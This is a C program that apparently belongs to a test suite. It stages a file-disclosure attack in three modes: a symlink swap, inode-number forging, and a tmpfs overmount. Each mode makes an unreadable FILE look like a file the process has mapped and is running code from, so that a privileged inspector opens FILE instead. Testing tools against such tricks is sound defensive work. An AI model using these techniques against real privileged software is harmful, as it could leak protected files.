/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * A file that this process may not read, made to look like one that it has mapped:
 * attack_secret MODE FILE.
 *
 * symlink: what was mapped lies in a folder that is a link to FILE's by now. inode: the same, and
 * the mapped file has FILE's inode number on a device of its own. overmounted: the folder of the
 * mapped file is covered by one whose link leads to FILE. Prints readable=1 where this user could
 * read FILE anyway.
 */
#include "attack_fuse.h"
#include "instructions.h"

#include <libgen.h>

enum { MOST_FILES = 1000000 };

static atomic_int in_position;

static void *in_file_main(void *code)
{
	prctl(PR_SET_NAME, "in-file", 0, 0, 0);
	in_position++;
	((void (*)(void))code)();
	return NULL;
}

/* A file of that name here; with that inode number if it is not 0. */
static int make_file(const char *name, ino_t inode)
{
	struct stat status = { 0 };
	int fd = -1;

	for (int i = 0; i < MOST_FILES; i++) {
		fd = open(name, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
		if (fd < 0 || fstat(fd, &status))
			victim_cannot(name);
		if (!inode || status.st_ino == inode)
			return fd;
		close(fd);
		unlink(name);
	}
	victim_cannot("a file with that inode number");
	return fd;
}

static void stand_in_copy(const char *name, ino_t inode)
{
	int fd = make_file(name, inode);
	uint8_t *at;

	attack_read_image();
	if (write(fd, attack_image, attack_image_size) < 0x4000 ||
	    pwrite(fd, waiting_code, sizeof(waiting_code), 0x2000) < 0)
		victim_cannot("write");
	at = mmap(NULL, 0x4000, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	close(fd);
	victim_thread(in_file_main, at + 0x2000, 64 << 10);
	while (!in_position)
		sched_yield();
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "symlink";
	char folder[4096], name[4096];
	struct stat status = { 0 };
	pid_t bystander;

	if (argc < 3 || stat(argv[2], &status))
		victim_cannot("FILE");
	snprintf(folder, sizeof(folder), "%s", argv[2]);
	snprintf(name, sizeof(name), "%s", argv[2]);
	memmove(name, basename(name), strlen(basename(name)) + 1);
	attack_begin(false);
	bystander = attack_bystander();
	mkdir(ATTACK_PLACE "/folder", 0755);
	if (chdir(ATTACK_PLACE "/folder"))
		victim_cannot("chdir");
	stand_in_copy(name, strcmp(mode, "symlink") != 0 ? status.st_ino : 0);
	if (!strcmp(mode, "overmounted")) {
		if (mount("tmpfs", ATTACK_PLACE "/folder", "tmpfs", 0, NULL) ||
		    chdir(ATTACK_PLACE "/folder") || symlink(argv[2], name))
			victim_cannot("overmount");
	} else if (rename(ATTACK_PLACE "/folder", ATTACK_PLACE "/other") ||
		   symlink(dirname(folder), ATTACK_PLACE "/folder")) {
		victim_cannot("symlink");
	}
	victim_ready("mode=%s bystander=%d readable=%d", mode, bystander,
		     access(argv[2], R_OK) == 0);
	victim_hold();
}
